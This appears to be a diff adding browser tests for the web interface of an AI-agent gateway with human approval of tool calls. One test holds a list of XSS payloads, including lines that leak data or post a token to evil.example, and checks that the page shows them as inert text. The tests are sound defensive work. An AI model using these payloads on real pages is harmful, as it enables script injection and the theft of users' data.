@@ -1,0 +1,445 @@
+"""
+The page, in a real browser: what people see is complete and true, what they press counts once, and no text ever becomes markup.
+
+Screenshots are kept in tests/artefacts.
+"""
+
+import json
+import re
+from collections.abc import Callable, Generator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
+
+from tests.gateway.conftest import Gateway, until
+
+pytestmark = [pytest.mark.needs_system("chromium"), pytest.mark.xdist_group("browser"), pytest.mark.timeout(180)]
+ARTEFACTS = Path(__file__).parents[1] / "artefacts"
+SIZES = {"phone": (390, 844), "desk": (1280, 800)}
+WAIT_MS = 20_000
+
+
+@pytest.fixture(scope="module")
+def browser(needs: Callable[[str], str]) -> Generator[Browser, None, None]:
+    with sync_playwright() as playwright:
+        launched = playwright.chromium.launch(executable_path=needs("chromium"), args=["--no-sandbox"])
+        yield launched
+        launched.close()
+
+
+class Tab:
+    """One person's browser: their own context, watched for anything that a page should never do."""
+
+    def __init__(self, browser: Browser, gateway: Gateway, *, size: str = "desk", scheme: Any = "light") -> None:
+        width, height = SIZES[size]
+        self.gateway = gateway
+        self.context: BrowserContext = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme)
+        self.page: Page = self.context.new_page()
+        self.page.set_default_timeout(WAIT_MS)
+        self.wrong: list[str] = []
+        self.page.on("pageerror", lambda error: self.wrong.append(str(error)))
+        self.page.on("dialog", lambda dialog: (self.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
+        self.page.on("request", lambda request: None if request.url.startswith(gateway.url) else self.wrong.append(f"request {request.url}"))
+        self.page.on("console", lambda said: self.wrong.append(said.text) if said.type == "error" and not _is_about_the_line(said.text) else None)
+
+    def sign_in(self, token: str) -> "Tab":
+        self.page.goto(self.gateway.url)
+        self.page.fill("#token", token)
+        self.page.get_by_role("button", name="Sign in").click()
+        self.page.wait_for_selector(".frame")
+        return self
+
+    def go(self, place: str) -> Page:
+        self.page.goto(f"{self.gateway.url}/{place}")
+        return self.page
+
+    def keep(self, name: str) -> None:
+        ARTEFACTS.mkdir(exist_ok=True)
+        self.page.screenshot(path=ARTEFACTS / f"{name}.png")
+
+    def settled(self) -> None:
+        """The half second in which a card that has just opened takes no click."""
+        self.page.wait_for_timeout(600)
+
+    def close(self) -> None:
+        self.context.close()
+        assert self.wrong == []
+
+
+def _is_about_the_line(text: str) -> bool:
+    """The browser's own words about a server that is away, or a status that the page handles."""
+    return "Failed to load resource" in text or "ERR_" in text
+
+
+@pytest.fixture
+def tab(browser: Browser) -> Generator[Callable[..., Tab], None, None]:
+    opened: list[Tab] = []
+
+    def open_tab(gateway: Gateway, **more: Any) -> Tab:
+        opened.append(Tab(browser, gateway, **more))
+        return opened[-1]
+
+    yield open_tab
+    for each in opened:
+        each.close()
+
+
+def test_two_people_a_parked_approval_and_a_killed_server(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    """The wrong one is refused, the right one approves, the tool ran once, and everybody sees it."""
+    gateway.settings('[policy.personal]\nshell = { ask = ["bob"], requester_may_answer = false }\n')
+    gateway.start()
+    tokens = {name: gateway.token(name) for name in ("alice", "bob", "carol")}
+    alice, bob = tab(gateway).sign_in(tokens["alice"]), tab(gateway).sign_in(tokens["bob"])
+    page = alice.go("#/s/ops/deploy")
+    page.fill("#say", "run: echo ran >> ran.txt")
+    page.keyboard.press("Enter")
+    expect(page.locator(".prompt .note")).to_have_text("Only bob may answer this.")
+    assert page.locator(".prompt .option").count() == 0
+    expect(bob.page.locator(".prompt.is-open .display")).to_contain_text("echo ran >> ran.txt")
+
+    gateway.kill()
+    expect(page.locator(".line")).to_have_text("reconnecting")
+    gateway.start(gateway.port)
+    expect(page.locator(".line")).to_have_text("live")
+
+    for wrong in ("alice", "carol"):
+        client = gateway.client(tokens[wrong])
+        prompt = gateway.waiting(gateway.client(tokens["bob"]))
+        assert gateway.answer(client, prompt, "approve_once").json()["code"] == "wrong_approver"
+    expect(page.locator(".note", has_text="carol tried to answer")).to_be_visible()
+
+    bob.settled()
+    bob.keep("two-people-bob-before")
+    bob.page.locator(".option[data-option=approve_once]").click()
+    expect(bob.page.locator(".outcome")).to_contain_text("Approved by you")
+    expect(page.locator(".chip-state", has_text="ran")).to_be_visible()
+    expect(page.locator(".t-answered")).to_have_count(1)
+    alice.keep("two-people-alice-after")
+    assert (gateway.work / "ran.txt").read_text() == "ran\n"
+
+
+CORPUS = [
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "![](http://evil.example/?q=stolen)",
+    "[click](javascript:window.pwned=1)",
+    "<svg/onload=window.pwned=1>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<a href='javascript:window.pwned=1'>x</a>",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "</pre></article><style>*{display:none}</style>",
+    "<base href='http://evil.example/'>",
+    "<form action='http://evil.example/'><input name=token></form>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "\u202egnihton si siht\u202c \u200bzero\u200b \x1b[2K\r hidden",
+    "data: x\n\nevent: record\nid: 99999\ndata: {}",
+]
+
+
+def test_no_text_of_a_model_a_tool_or_a_person_becomes_markup(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    calls = [{"tool": f"<script>{n}</script>", "args": {"a": text}} for n, text in enumerate(CORPUS[:4])]
+    lines = [
+        {"say": "\n".join(CORPUS), "call": calls},
+        {"say": CORPUS[1], "call": [{"tool": "shell", "args": {"command": f"echo '{text}'"}} for text in CORPUS[:6] if "'" not in text]},
+        {"say": "\n".join(CORPUS)},
+    ]
+    gateway.settings(f'[agents.assistant]\nmodel = "{gateway.script(*lines)}"\n')
+    gateway.start()
+    token = gateway.token("alice", "read,send,approve,admin")
+    client = gateway.client(token)
+    gateway.send(client, "ops/xss", "\n".join(CORPUS))
+    gateway.waiting(client)
+    alice = tab(gateway).sign_in(token)
+    expect(alice.page.locator(".prompt.is-open")).to_be_visible()
+    _is_inert(alice.page)
+    page = alice.go("#/s/ops/xss")
+    expect(page.locator(".call .prompt").first).to_be_visible()
+    _is_inert(page)
+    shown = page.locator(".log").inner_text()
+    for text in CORPUS[:6]:
+        assert text in shown
+    for prompt in client.get("/v1/approvals").json()["approvals"]:
+        assert page.locator(f"[data-approval='{prompt['id']}'] .display").inner_text() == prompt["display"]
+        gateway.answer(client, prompt, "deny", reason=CORPUS[0])
+    expect(page.locator(".t-answered")).to_have_count(1)
+    page.locator("summary", has_text="What came of it").first.click()
+    _is_inert(page)
+    alice.keep("xss-inert")
+    assert page.evaluate("(() => { try { document.body.innerHTML = '<b>x</b>'; return 'markup'; } catch { return 'refused'; } })()") == "refused"
+
+
+def _is_inert(page: Page) -> None:
+    assert page.evaluate("window.pwned") is None
+    assert page.locator("#app script, #app iframe, #app svg[onload], #app base, #app form, #app style, #app meta, #app object, #app embed").count() == 0
+    assert page.locator("img:not([src='/assets/icon.svg'])").count() == 0
+    assert all(href.startswith("#") for href in page.locator("a").evaluate_all("all => all.map((a) => a.getAttribute('href'))"))
+
+
+def test_by_keyboard_alone_and_a_bare_enter_does_nothing(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    """P6: Enter presses no answer; Space does."""
+    gateway.start()
+    token = gateway.token("alice")
+    client = gateway.client(token)
+    gateway.send(client, "ops/one", "run: touch approved.txt")
+    prompt = gateway.waiting(client)
+    alice = tab(gateway)
+    page = alice.go("")
+    page.keyboard.type(token)
+    page.keyboard.press("Enter")
+    page.wait_for_selector(".prompt.is-open .option")
+    alice.settled()
+    for _ in range(60):
+        page.keyboard.press("Tab")
+        if page.evaluate("document.activeElement.dataset.option") == "approve_once":
+            break
+    else:
+        pytest.fail("Tab never reached the answer")
+    page.keyboard.press("Enter")
+    page.keyboard.press("Enter")
+    expect(page.locator(".status")).to_have_text("Enter presses nothing here. Space does.")
+    assert client.get(f"/v1/approvals/{prompt['id']}").json()["state"] == "requested"
+    assert not (gateway.work / "approved.txt").exists()
+    page.keyboard.press("Space")
+    expect(page.locator(".outcome")).to_contain_text("Approved by you")
+    until((gateway.work / "approved.txt").exists, "the tool to have run")
+    page.keyboard.press("?")
+    expect(page.get_by_role("dialog")).to_be_visible()
+    alice.keep("help")
+    page.keyboard.press("Escape")
+    expect(page.get_by_role("dialog")).to_be_hidden()
+    page.keyboard.press("2")
+    expect(page.get_by_role("heading", name="Conversations", level=1)).to_be_focused()
+    page.keyboard.press("n")
+    expect(page.locator("#say")).to_be_focused()
+    page.keyboard.type("what time is it")
+    page.keyboard.press("Enter")
+    expect(page.locator(".msg.said")).to_contain_text("now:")
+
+
+def test_a_dangerous_one_needs_its_name_typed(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    gateway.start()
+    token = gateway.token("alice")
+    client = gateway.client(token)
+    gateway.send(client, "ops/danger", "run: sh -c 'touch danger.txt'")
+    prompt = gateway.waiting(client)
+    assert prompt["dangerous"] is True
+    alice = tab(gateway).sign_in(token)
+    page = alice.page
+    once = page.locator(".option[data-option=approve_once]")
+    expect(once).to_be_disabled()
+    expect(page.locator(".option[data-option=deny]")).to_be_enabled()
+    page.locator(".confirm").fill("shel")
+    page.keyboard.press("Enter")
+    expect(once).to_be_disabled()
+    page.locator(".confirm").fill("shell")
+    page.keyboard.press("Enter")
+    assert client.get(f"/v1/approvals/{prompt['id']}").json()["state"] == "requested"
+    alice.settled()
+    once.click()
+    expect(page.locator(".outcome")).to_contain_text("Approved by you")
+    until((gateway.work / "danger.txt").exists, "the tool to have run")
+
+
+def test_a_click_meant_for_what_stood_there_before_is_no_answer(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    gateway.start()
+    token = gateway.token("alice")
+    client = gateway.client(token)
+    gateway.send(client, "ops/one", "run: touch hasty.txt")
+    prompt = gateway.waiting(client)
+    alice = tab(gateway).sign_in(token)
+    alice.page.wait_for_selector(".prompt.is-open .option")
+    alice.page.evaluate("""() => {
+        const head = document.querySelector('.prompt-head'); head.click();
+        document.querySelector('.prompt-head').click();
+        document.querySelector('.option[data-option=approve_once]').click();
+    }""")
+    assert client.get(f"/v1/approvals/{prompt['id']}").json()["state"] == "requested"
+    assert not (gateway.work / "hasty.txt").exists()
+
+
+@pytest.mark.parametrize("size", ["phone", "desk"])
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_without_scrolling_the_inbox_shows_all_that_an_answer_needs(gateway: Gateway, tab: Callable[..., Tab], size: str, scheme: str) -> None:
+    gateway.start()
+    token = gateway.token("alice")
+    client = gateway.client(token)
+    gateway.send(client, "ops/release", "run: git push origin release-2.4")
+    prompt = gateway.waiting(client)
+    gateway.send(client, "ops/deploy", "run: systemctl restart api && curl -sS https://status.internal/health")
+    gateway.send(client, "ops/region", "ask me which region should take the traffic?")
+    until(lambda: len(client.get("/v1/approvals").json()["approvals"]) == 3, "three prompts")
+    alice = tab(gateway, size=size, scheme=scheme).sign_in(token)
+    page = alice.page
+    expect(page.locator(".prompt")).to_have_count(3)
+    card = page.locator(".prompt.is-open")
+    expect(card).to_have_count(1)
+    alice.keep(f"inbox-{size}-{scheme}")
+    for name, text in (("Who", "alice"), ("Where", "ops/release"), ("Where", "personal:alice"), ("Why", "policy asks"), ("Until", "then denied")):
+        fact = card.locator(".fact", has=page.locator("dt", has_text=name))
+        expect(fact).to_contain_text(text)
+        _fits(page, fact)
+    assert card.locator(".display").inner_text() == prompt["display"]
+    _fits(page, card.locator(".display"))
+    assert card.locator(".option").count() == len(prompt["options"]) == 6
+    for option in prompt["options"]:
+        button = card.locator(f"[data-option={option}]")
+        expect(button).to_contain_text(prompt["covers"][option])
+        _fits(page, button)
+    assert prompt["digest"][:16] in card.inner_text()
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+def _fits(page: Page, element: Any) -> None:
+    box, size = element.bounding_box(), page.viewport_size
+    assert box is not None
+    assert size is not None
+    main = page.locator("main").bounding_box()
+    assert main is not None
+    assert box["x"] >= 0
+    assert box["y"] >= main["y"]
+    assert box["x"] + box["width"] <= size["width"] + 0.5
+    assert box["y"] + box["height"] <= main["y"] + main["height"] + 0.5, f"{element} is below the fold"
+
+
+def test_the_accessibility_checker_finds_nothing(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    gateway.start()
+    token = gateway.token("alice")
+    client = gateway.client(token)
+    gateway.send(client, "ops/a", "what time is it")
+    gateway.send(client, "ops/b", "run: sh -c 'id'")
+    gateway.send(client, "ops/c", "run: true")
+    gateway.send(client, "ops/d", "ask me which one?")
+    until(lambda: len(client.get("/v1/approvals").json()["approvals"]) == 3, "three prompts")
+    gateway.answer(client, gateway.waiting(client, "ops/c"), "approve_session")
+    for scheme, size in (("light", "desk"), ("dark", "phone")):
+        alice = tab(gateway, scheme=scheme, size=size)
+        page = alice.go("")
+        page.wait_for_selector("#token")
+        _check(page, f"sign in, {scheme}")
+        alice.sign_in(token)
+        for place, sign in (
+            ("#/inbox", ".prompt.is-open .option"), ("#/s/ops/a", ".t-answered"), ("#/s/ops/b", ".call .prompt .option"), ("#/s/ops/new", ".tries"),
+            ("#/grants", ".grant"), ("#/talk", ".rows .session"),
+        ):  # fmt: skip
+            alice.go(place)
+            page.wait_for_selector(sign)
+            _check(page, f"{place}, {scheme}")
+            alice.keep(f"{re.sub('[^a-z]+', '-', place).strip('-')}-{size}-{scheme}")
+        page.get_by_role("button", name="Help and keys").click()
+        _check(page, f"help, {scheme}")
+
+
+def _check(page: Page, where: str) -> None:
+    found = Axe().run(page).response["violations"]
+    told = [f"{each['id']}: {node['html'][:200]} {node.get('failureSummary', '')[:300]}" for each in found for node in each["nodes"]]
+    assert not told, f"{where}: {json.dumps(told, indent=1)}"
+
+
+def test_edit_question_grant_and_revoke_through_the_page(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    gateway.start()
+    token = gateway.token("alice")
+    client = gateway.client(token)
+    alice = tab(gateway).sign_in(token)
+    page = alice.go("#/s/ops/work")
+    page.fill("#say", "run: echo first > out.txt")
+    page.get_by_role("button", name="Send").click()
+    page.wait_for_selector(".call .prompt .option")
+    alice.settled()
+    page.locator("[data-option=edit]").click()
+    page.locator(".own textarea").fill('{"command": "echo second > out.txt", "cwd": ".", "timeout_seconds": null}')
+    page.get_by_role("button", name="Ask anew with these").click()
+    expect(page.locator(".call .prompt .display")).to_contain_text("echo second")
+    alice.settled()
+    page.locator(".call .prompt [data-option=approve_everywhere]").click()
+    expect(page.locator(".chip-state", has_text="ran")).to_be_visible()
+    assert (gateway.work / "out.txt").read_text() == "second\n"
+
+    page = alice.go("#/s/ops/question")
+    page.fill("#say", "ask me which region?")
+    page.keyboard.press("Enter")
+    page.wait_for_selector(".call .question")
+    alice.settled()
+    page.locator("[data-option=answer]").click()
+    page.locator(".own textarea").fill("eu-1, please")
+    page.get_by_role("button", name="Send the answer").click()
+    expect(page.locator(".t-answered")).to_have_count(1)
+    assert "eu-1, please" in json.dumps([each for each in _records(gateway, client, "ops/question") if each["type"] == "call_finished"])
+
+    page = alice.go("#/grants")
+    expect(page.locator(".grant")).to_have_count(1)
+    expect(page.locator(".grant")).to_contain_text("echo second")
+    page.get_by_role("button", name="Ask again from now on").click()
+    expect(page.locator(".grant")).to_have_count(0)
+    assert client.get("/v1/grants").json()["grants"] == []
+
+
+def _records(gateway: Gateway, client: Any, session: str) -> list[Any]:
+    with gateway.events(client, session) as stream:
+        stream.until_record("turn_ended")
+    return [data for name, _, data in stream.heard if name == "record"]
+
+
+def test_the_code_in_the_address_works_once_and_stays_nowhere(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    gateway.start()
+    owner = tab(gateway)
+    page = owner.go(f"#code={gateway.code}")
+    page.wait_for_selector(".frame")
+    assert gateway.code not in page.url
+    assert page.evaluate("document.cookie") == ""
+    assert owner.context.cookies() == []
+    assert "hf_" not in page.evaluate("JSON.stringify(localStorage)")
+    assert "hf_" not in page.content()
+    page.reload()
+    page.wait_for_selector(".frame")
+    thief = tab(gateway)
+    other = thief.go(f"#code={gateway.code}")
+    expect(other.locator(".status.bad")).to_contain_text("unknown, used or too old")
+
+
+def test_a_revoked_token_ends_the_page_and_says_so(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    gateway.start()
+    token = gateway.token("alice", name="laptop")
+    gateway.send(gateway.client(token), "ops/a", "help")
+    alice = tab(gateway).sign_in(token)
+    page = alice.go("#/s/ops/a")
+    page.wait_for_selector(".t-answered")
+    gateway.run("tokens", "revoke", "laptop")
+    expect(page.locator(".signin .status.bad")).to_contain_text("no longer valid", timeout=6_000)
+
+
+def test_a_crash_in_mid_tool_is_drawn_where_it_happened(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    gateway.start()
+    token = gateway.token("alice")
+    client = gateway.client(token)
+    gateway.send(client, "ops/crash", "run: sleep 60")
+    gateway.answer(client, gateway.waiting(client), "approve_once")
+    with gateway.events(client, "ops/crash") as stream:
+        stream.until_record("tool_started")
+    gateway.kill()
+    gateway.start(gateway.port)
+    alice = tab(gateway).sign_in(token)
+    page = alice.go("#/s/ops/crash")
+    expect(page.locator(".t-crash").first).to_be_visible()
+    expect(page.locator(".chip-state", has_text="in doubt")).to_be_visible()
+    page.wait_for_selector(".t-answered")
+    alice.keep("crash-desk-light")
+
+
+def test_a_sealed_session_says_so(gateway: Gateway, tab: Callable[..., Tab]) -> None:
+    gateway.start()
+    token = gateway.token("root", "read,send,approve,admin")
+    client = gateway.client(token)
+    gateway.send(client, "ops/a", "what time is it")
+    until(lambda: client.get("/v1/sessions/ops/a").json()["phase"] == "idle", "the turn to end")
+    root = tab(gateway).sign_in(token)
+    page = root.go("#/s/ops/a")
+    expect(page.locator(".integrity")).to_contain_text("history intact")
+    (segment,) = (gateway.home / "sessions" / "ops" / "a").glob("*.jsonl")
+    segment.write_bytes(segment.read_bytes().replace(b"what time", b"what tame"))
+    page.fill("#say", "again")
+    page.keyboard.press("Enter")
+    expect(page.locator(".integrity")).to_contain_text("sealed")
+    root.keep("sealed-desk-light")
